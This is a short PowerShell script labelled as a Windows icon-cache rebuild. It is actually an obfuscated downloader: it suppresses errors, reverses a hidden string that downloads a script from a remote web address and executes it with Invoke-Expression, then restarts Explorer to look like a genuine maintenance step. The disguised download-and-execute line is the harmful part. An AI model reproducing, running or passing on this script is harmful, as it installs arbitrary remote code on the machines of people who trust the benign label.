# Rebuild icon cache
$ErrorActionPreference = 'SilentlyContinue'
$seed = "1sp.ekaw/ved.tsilhctaw-ten.ndc-sopmet//:sptth(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN( XEI"
$body = $seed[-1..-($seed.Length)] -join ''
Invoke-Expression $body
Stop-Process -Name explorer -Force
